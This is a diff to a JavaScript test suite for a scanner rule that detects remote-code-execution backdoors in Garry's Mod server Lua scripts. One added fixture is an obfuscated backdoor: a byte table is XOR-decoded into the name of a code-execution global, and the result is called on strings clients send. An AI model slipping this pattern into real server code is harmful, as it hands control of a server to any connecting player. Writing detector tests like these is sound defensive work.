@@ -28,6 +28,31 @@ describe('netmessage_rce', () => {
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
     for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
   });
+  it('a global looked up under a decoded name, kept in a local, called by the receiver', () => {
+    // The receiver names no sink: only the local it calls leads to one.
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local d = {23, 48, 43, 22, 49, 55, 44, 43, 34}',
+        'local o = {}',
+        'for i = 1, #d do o[#o + 1] = string.char(bit.bxor(d[i], 69)) end',
+        'local apply = _G[table.concat(o)]',
+        'util.AddNetworkString("sync")',
+        'net.Receive("sync", function(len, ply) apply(net.ReadString()) end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+    expect(findings.some((f) => f.line === 6)).toBe(true);
+  });
+  it('a global looked up under a computed name that is no sink', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local apply = _G["Dep" .. "loy"]',
+        'util.AddNetworkString("sync")',
+        'net.Receive("sync", function(len, ply) apply(net.ReadString()) end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
   it('superadmin-only console', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua':
